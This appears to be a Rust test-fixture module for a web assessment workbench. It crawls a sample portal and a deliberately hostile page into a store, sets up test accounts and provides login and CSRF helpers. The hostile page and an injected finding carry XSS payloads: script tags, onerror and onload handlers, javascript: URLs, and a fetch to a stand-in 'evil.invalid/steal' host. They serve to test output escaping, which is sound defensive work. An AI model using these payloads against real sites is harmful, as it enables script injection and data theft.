//! The workbench over a real run: the sample portal crawled over HTTP, assessed and stored; a
//! hostile page crawled into the same store and made the evidence of one extra finding (a
//! second run); four accounts; the real server on 127.0.0.1.

#![allow(clippy::unwrap_used, dead_code)] // tests may unwrap: a panic is a failed test

use std::net::SocketAddr;
use std::sync::OnceLock;

use crawl::{CrawlOptions, Crawler};
use store::{NewUser, Role, Store};
use url::Url;

pub const PASSWORD: &str = "correct horse 1";

/// A fixture: the store's path, the demo run's id, the hostile run's id, and two departments
/// that have findings in the demo run (the department user's own, and another).
pub struct Fixture {
    pub db: String,
    pub run: i64,
    pub hostile_run: i64,
    pub own: String,
    pub other: String,
    /// A finding of `own` and one of `other` (ids).
    pub own_finding: String,
    pub other_finding: String,
    /// The hostile finding's id in `hostile_run`.
    pub hostile_finding: String,
    /// The hostile page's server (`127.0.0.1:port`), alive for the whole test binary.
    pub hostile_addr: String,
    /// The sample portal, still served (re-checks fetch from it).
    pub site: demo::Server,
    /// A finding of `hostile_run` (and of `run`) whose deduction counts in full, with a
    /// stored page as evidence.
    pub free_finding: String,
    _dir: tempfile::TempDir,
}

/// A page that tries everything: script, handlers, a refresh away, remote loads, a form.
pub const HOSTILE_PAGE: &str = r#"<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=http://evil.invalid/"><title>办事指南</title>
<script>document.title='PWNED';fetch('http://evil.invalid/steal')</script>
<link rel="stylesheet" href="http://evil.invalid/x.css"></head>
<body onload="document.body.innerHTML='PWNED'"><img src="http://evil.invalid/p.gif" onerror="alert(1)">
<p>办理时间：<script>alert('x')</script>工作日</p><a href="javascript:alert(1)">点我</a>
<form action="http://evil.invalid/"><input name=a></form></body></html>"#;

/// Built once per test binary.
pub fn fixture() -> &'static Fixture {
    static F: OnceLock<Fixture> = OnceLock::new();
    F.get_or_init(|| {
        // Its own thread and runtime: the tests that ask for it run inside theirs.
        std::thread::spawn(|| {
            let rt = tokio::runtime::Builder::new_multi_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(build())
        })
        .join()
        .unwrap()
    })
}

async fn build() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("w.sqlite").to_str().unwrap().to_string();
    let store = Store::open(&db).await.unwrap();
    let site = demo::Site::new(1, 1000);
    let truth = site.truth();
    let server = demo::serve(site, "127.0.0.1:0".parse().unwrap()).unwrap();
    let crawl = crawl_all(&store, &format!("{}/", server.base_url())).await;
    let rubric = rubric::bundled(rubric::BUNDLED_ID).unwrap();
    let (profile, decisions) = (assess::Profile::default(), assess::Decisions::default());
    let setup = assess::load::Setup {
        rubric: &rubric,
        rubric_version: "test".into(),
        profile: &profile,
        decisions: &decisions,
        as_of: chrono::NaiveDate::parse_from_str(&truth.as_of, "%Y-%m-%d").unwrap(),
        use_history: false,
    };
    let a = assess::load::assess_crawl(&store, crawl, &setup)
        .await
        .unwrap();
    let run = assess::run::save(&store, &a, None).await.unwrap();

    // Two departments with deducted findings.
    let mut by_dept: Vec<(String, String)> = a
        .findings
        .iter()
        .filter(|f| f.finding.status == rubric::Status::Deducted)
        .map(|f| {
            (
                rubric
                    .department(&f.finding.department)
                    .unwrap()
                    .name
                    .clone(),
                f.finding.id.clone(),
            )
        })
        .collect();
    by_dept.sort();
    let (own, own_finding) = by_dept[0].clone();
    let (other, other_finding) = by_dept.iter().find(|(d, _)| *d != own).unwrap().clone();

    // The hostile page, crawled for real into the same store.
    let hostile = hostile_server().await;
    let hcrawl = crawl_all(&store, &format!("http://{hostile}/")).await;
    let fetch = store
        .fetches_of_url(hcrawl, &format!("http://{hostile}/"))
        .await
        .unwrap()
        .pop()
        .unwrap();
    let mut b = a.clone();
    let template = b
        .findings
        .iter()
        .find(|f| f.finding.id == own_finding)
        .unwrap()
        .clone();
    let mut evil = template.clone();
    evil.finding.id = "1.1/evil:<script>alert(1)</script>".into();
    evil.finding.subject = "<img src=x onerror=alert(1)>".into();
    evil.finding.message = "<script>alert('msg')</script>".into();
    evil.finding.evidence = vec![rubric::Evidence {
        url: "javascript:alert(1)".into(),
        fetch: Some(fetch.id.0),
        excerpt: Some("办理时间：".into()),
        label: Some("<b>label</b>".into()),
        ..Default::default()
    }];
    b.findings.push(evil.clone());
    let all: Vec<rubric::Finding> = b.findings.iter().map(|f| f.finding.clone()).collect();
    b.scores = rubric::score(&rubric, &all, &[]).unwrap();
    b.total = b.scores.total;
    // A deduction that counts in full (its indicator is not floored at 0): dismissing it
    // must raise the total by exactly its amount.
    let free_finding = b
        .scores
        .sections
        .iter()
        .flat_map(|s| s.indicators.iter())
        .filter(|i| i.deducted < i.points)
        .flat_map(|i| i.charges.iter())
        .map(|c| c.finding.clone())
        .find(|id| {
            *id != evil.finding.id
                && b.findings.iter().any(|f| {
                    &f.finding.id == id && f.finding.evidence.iter().any(|e| e.fetch.is_some())
                })
        })
        .unwrap();
    let hostile_run = assess::run::save(&store, &b, None).await.unwrap();

    for (login, role, dept) in [
        ("admin", Role::Admin, None),
        ("assessor", Role::Assessor, None),
        ("viewer", Role::Viewer, None),
        ("dept", Role::Department, Some(own.clone())),
    ] {
        store
            .create_user(&NewUser {
                login: login.into(),
                display_name: format!("{login}-名"),
                role,
                department: dept,
                password_hash: web::hash_password(PASSWORD).unwrap(),
            })
            .await
            .unwrap();
    }
    store.close().await;
    Fixture {
        db,
        run: run.0,
        hostile_run: hostile_run.0,
        own,
        other,
        own_finding,
        other_finding,
        hostile_finding: evil.finding.id,
        free_finding,
        hostile_addr: hostile.to_string(),
        site: server,
        _dir: dir,
    }
}

async fn crawl_all(store: &Store, seed: &str) -> store::CrawlId {
    let mut o = CrawlOptions::new(Url::parse(seed).unwrap());
    o.fetch.politeness.rate = 0.0;
    o.fetch.politeness.concurrency = 8;
    o.workers = 32;
    Crawler::new(store.clone(), o)
        .unwrap()
        .run()
        .await
        .unwrap()
        .crawl
}

/// Serves [`HOSTILE_PAGE`] at `/` on its own thread (it outlives the fixture's runtime).
async fn hostile_server() -> SocketAddr {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    listener.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let app = axum::Router::new().route(
                "/",
                axum::routing::get(|| async {
                    ([("content-type", "text/html; charset=utf-8")], HOSTILE_PAGE)
                }),
            );
            let l = tokio::net::TcpListener::from_std(listener).unwrap();
            axum::serve(l, app).await.unwrap();
        });
    });
    addr
}

/// A workbench server over the fixture's store, on its own thread; returns its base URL.
pub fn server(config: web::Config) -> String {
    let db = fixture().db.clone();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let store = Store::open(&db).await.unwrap();
            let state = web::AppState::new(store, Vec::new(), config);
            let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            tx.send(l.local_addr().unwrap()).unwrap();
            axum::serve(
                l,
                web::router(state).into_make_service_with_connect_info::<SocketAddr>(),
            )
            .await
            .unwrap();
        });
    });
    format!("http://{}", rx.recv().unwrap())
}

/// A logged-in browser stand-in: its session cookie and CSRF token.
pub struct Session {
    pub base: String,
    pub cookie: String,
    pub csrf: String,
    pub http: reqwest::Client,
}

pub fn http() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

pub async fn login(base: &str, login: &str) -> Session {
    let http = http();
    let resp = http
        .post(format!("{base}/login"))
        .form(&[("login", login), ("password", PASSWORD), ("next", "/runs")])
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 303, "login as {login}");
    let cookie = resp
        .headers()
        .get("set-cookie")
        .unwrap()
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let page = http
        .get(format!("{base}/runs"))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = regex::Regex::new(r#"name="_csrf" value="([^"]+)""#)
        .unwrap()
        .captures(&page)
        .unwrap()[1]
        .to_string();
    Session {
        base: base.to_string(),
        cookie,
        csrf,
        http,
    }
}

impl Session {
    pub async fn get(&self, path: &str) -> reqwest::Response {
        self.http
            .get(format!("{}{path}", self.base))
            .header("cookie", &self.cookie)
            .send()
            .await
            .unwrap()
    }

    /// A form POST with the session's CSRF token.
    pub async fn post(&self, path: &str, form: &[(&str, &str)]) -> reqwest::Response {
        let mut f: Vec<(&str, &str)> = form.to_vec();
        f.push(("_csrf", &self.csrf));
        self.post_raw(path, &f).await
    }

    /// A form POST exactly as given (no token added).
    pub async fn post_raw(&self, path: &str, form: &[(&str, &str)]) -> reqwest::Response {
        self.http
            .post(format!("{}{path}", self.base))
            .header("cookie", &self.cookie)
            .form(form)
            .send()
            .await
            .unwrap()
    }
}

pub fn enc(s: &str) -> String {
    url::form_urlencoded::byte_serialize(s.as_bytes()).collect()
}
